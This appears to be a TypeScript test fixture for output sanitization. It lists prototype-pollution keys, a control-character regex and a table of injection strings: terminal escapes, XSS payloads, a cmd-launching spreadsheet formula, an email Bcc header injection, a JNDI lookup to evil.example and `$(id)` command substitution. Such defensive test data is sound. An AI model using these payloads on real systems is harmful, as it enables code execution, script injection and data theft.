/** Names that mean something to JavaScript. */
export const PROTOTYPE_NAMES = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "valueOf",
  "hasOwnProperty",
  "__defineGetter__",
];

/** What a terminal, a page, a spreadsheet, a Markdown viewer, a mail program or a parser might act on. */
export const ACTING: Readonly<Record<string, string>> = {
  "clears the screen": "x\u001b[2J\u001b[1;1Hok",
  "is a link of a terminal": "\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007",
  "rings and sets a title": "\u0007\u001b]0;owned\u0007",
  "is a C1 sequence": "\u009b31mred\u009d0;title\u009c",
  "turns the writing direction": "admin\u202eeb-ton\u2066x\u2069",
  "is half a character": "\ud800x\udc00",
  "has a NUL": "a\u0000b\uffff\ufffe",
  "breaks lines": "a\r\nBcc: evil@example.com\r\n\r\n<b>body</b>\u2028x\u0085y",
  "is a script": "<script>window.owned=1</script><img src=x onerror=window.owned=1>",
  "breaks out of an attribute": '" onmouseover="window.owned=1" x=\'"\'><svg/onload=window.owned=1>',
  "ends a CDATA section": "]]><!-- --><![CDATA[&amp;&#x1b;&xxe;",
  "is a formula": "=cmd|'/c calc'!A1",
  "is a formula with plus": "+1+1",
  "is a formula with minus": "-2+3",
  "is a formula with at": "@SUM(1+1)",
  "is a formula behind a tab": "\t=1+1",
  "is a formula behind a line end": "\r=1+1",
  "is Markdown":
    "[x](http://evil.example) ![y](http://evil.example/y.png) | a | b |\n|---|---| `$(id)` **b**",
  "is a placeholder": "{0} %s %n ${jndi:ldap://evil.example/a} {{7*7}}",
  "is a colour of the engine": "<{%red%}>x<{%reset%}>",
};

/** All at once. */
export const ALL_ACTING = Object.values(ACTING).join(" ");

/** Nothing of these may stand in what is printed: they act. Line ends and tabs are a matter of the format. */
export const CONTROL =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]|\p{Cs}/u;
